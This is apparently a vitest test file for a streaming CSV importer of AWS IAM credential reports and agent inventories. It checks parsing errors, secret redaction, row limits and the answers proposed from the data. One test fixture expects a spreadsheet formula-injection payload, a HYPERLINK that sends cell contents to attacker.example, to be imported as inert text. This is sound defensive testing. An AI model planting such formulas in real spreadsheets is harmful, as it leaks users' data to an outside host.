import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { credentialReportLines, FIXTURE_NOW } from '../../../scripts/evidence/generate-fixtures';
import { classifier } from '../../core/evidence/classification';
import { EvidenceImportError } from '../../core/evidence/csv-rows';
import { FactAccumulator } from '../../core/evidence/facts';
import type { ImportProblem, InventoryIdentity } from '../../core/evidence/inventory';
import { proposeAnswers } from '../../core/evidence/proposals';
import { readCredentialReport, readTemplate } from './evidence-csv';

const fixture = (name: string) => readFileSync(`test/fixtures/evidence/${name}`, 'utf8');

/** The text in chunks of `size` characters, as an upload arrives. */
function* chunked(text: string, size: number) {
  for (let at = 0; at < text.length; at += size) yield text.slice(at, at + size);
}

async function all(identities: AsyncIterable<InventoryIdentity>) {
  const out: InventoryIdentity[] = [];
  for await (const identity of identities) out.push(identity);
  return out;
}

async function problems(identities: AsyncIterable<InventoryIdentity>): Promise<ImportProblem[]> {
  try {
    await all(identities);
  } catch (error) {
    if (error instanceof EvidenceImportError) return error.problems;
    throw error;
  }
  throw new Error('expected the file to be rejected');
}

describe('streaming CSV inventories', () => {
  it('reads the credential report fixture, whatever the chunk size', async () => {
    const text = fixture('credential-report.csv');
    const whole = await all(readCredentialReport([text]));
    expect(whole).toHaveLength(40);
    expect(whole[0]?.name).toBe('<root_account>');
    expect(await all(readCredentialReport(chunked(text, 7)))).toEqual(whole);
    expect(whole.some((i) => i.automationOnHumanAccount)).toBe(true);
  });

  it('reads the template fixture with a byte order mark and line ends of every kind, mixed as hand-edited files mix them', async () => {
    let line = 0;
    const text = `\uFEFF${fixture('template.csv').replace(/\n/g, () => ['\r\n', '\n', '\r'][line++ % 3] as string)}`;
    const agents = await all(readTemplate(chunked(text, 50)));
    expect(agents).toHaveLength(30);
    expect(agents.every((a) => a.declaredKind === 'agent')).toBe(true);
  });

  it('names the missing columns of a file with the wrong ones', async () => {
    expect(await problems(readCredentialReport([fixture('credential-report-wrong-columns.csv')]))).toEqual([
      { at: { row: 1 }, message: 'the header lacks the columns mfa_active, access_key_2_last_used_date of a AWS IAM credential report' },
    ]);
  });

  it('finds the short row and the bad date where they are', async () => {
    expect(await problems(readCredentialReport([fixture('credential-report-short-row.csv')]))).toEqual([
      { at: { row: 4 }, message: 'has 19 fields where the header has 22' },
    ]);
    expect(await problems(readCredentialReport([fixture('credential-report-bad-date.csv')]))).toEqual([
      { at: { row: 3, column: 'user_creation_time' }, message: 'is not an ISO 8601 date and time, N/A or no_information' },
    ]);
  });

  it('rejects a secret in a cell without quoting it, and a huge field', async () => {
    const secret = await problems(readTemplate([fixture('template-secret-in-cell.csv')]));
    expect(secret.map((p) => p.at)).toEqual([{ row: 2, column: 'purpose' }]);
    expect(JSON.stringify(secret)).not.toMatch(/EXAMPLEKEY/);
    expect(await problems(readTemplate([fixture('template-huge-field.csv')]))).toEqual([
      { at: { row: 2, column: 'purpose' }, message: 'is longer than 4096 characters' },
    ]);
  });

  it('imports a formula-injection cell as the text it is', async () => {
    const agents = await all(readTemplate([fixture('template-formula-injection.csv')]));
    expect(agents[1]?.owner).toBe('=HYPERLINK("https://attacker.example/?q="&A1,"owner")');
  });

  it('reports a quote never closed, at the row it opens', async () => {
    expect(await problems(readTemplate([fixture('template-broken-quote.csv')]))).toEqual([
      { at: { row: 3 }, message: 'the file is not valid CSV here: a quoted field is never closed' },
    ]);
  });

  it('reports a quote opening in the middle of a field (csv-parse names that error without its CSV_ prefix)', async () => {
    expect(await problems(readTemplate([' "']))).toEqual([
      { at: { row: 1 }, message: 'the file is not valid CSV here: a quote opens in the middle of a field' },
    ]);
  });

  it('stops at the row limit', async () => {
    expect(await problems(readCredentialReport([fixture('credential-report.csv')], { maxRows: 10, maxFieldLength: 4096, maxProblems: 100 }))).toEqual([
      { at: { row: 12 }, message: 'the file has more than 10 data rows; split it and import each part' },
    ]);
  });

  it('reads 50,000 identities as they stream, never the whole file at once', async () => {
    let count = 0;
    for await (const _ of readCredentialReport(credentialReportLines(50_000, 50))) count += 1;
    expect(count).toBe(50_000);
  });
});

describe('from a file to proposed answers', () => {
  it('classifies, measures and proposes from the committed fixtures', async () => {
    const decide = classifier({ namingRules: [{ pattern: 'svc-agent-*', kind: 'agent' }] });
    const facts = new FactAccumulator(FIXTURE_NOW);
    for await (const identity of readCredentialReport([fixture('credential-report.csv')])) facts.add({ ...identity, classification: decide(identity) });
    for await (const identity of readTemplate([fixture('template.csv')])) facts.add({ ...identity, classification: decide(identity) });
    const measured = Object.fromEntries(facts.facts().map((f) => [f.id, f]));
    expect(measured['static-credentials']?.denominator).toBeGreaterThan(30);
    expect(measured['automation-on-human-accounts']?.numerator).toBeGreaterThan(0);
    const proposals = Object.fromEntries(proposeAnswers(facts.facts()).map((p) => [p.questionId, p]));
    expect(proposals['max-credential-lifetime']?.value).toBe('no-expiry');
    expect(proposals['agent-owner-coverage']?.evidence).toMatch(/^\d+ of 30 agent identities \(\d+%\) have a named owner$/);
  });
});
